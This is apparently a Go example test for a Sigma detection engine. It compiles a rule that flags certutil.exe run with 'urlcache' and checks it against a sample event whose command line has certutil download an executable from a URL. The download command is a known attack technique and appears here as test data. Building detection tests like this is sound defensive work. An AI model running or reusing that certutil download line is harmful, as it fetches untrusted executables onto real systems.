package engine_test

import (
	"fmt"

	"github.com/meneki/meneki/sigma"
	"github.com/meneki/meneki/sigma/engine"
)

func ExampleCompile() {
	rules := sigma.ParseCollection("rule.yml", []byte(`
title: Certutil downloads a file
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: selection
`)).Set()
	e := engine.Compile(rules, engine.Options{})
	ev := sigma.Map{Product: "windows", Categories: []string{"process_creation"}, Fields: map[string]any{
		"Image":       `C:\Windows\System32\certutil.exe`,
		"CommandLine": "certutil -URLCache -f http://example.org/a.exe a.exe",
	}}
	for m := range e.Match(ev) {
		for _, f := range m.Fields {
			fmt.Println(m.Rule.Title+":", f.Field, f.Modifier, f.Pattern)
		}
	}
	// Output:
	// Certutil downloads a file: Image endswith \certutil.exe
	// Certutil downloads a file: CommandLine contains urlcache
}
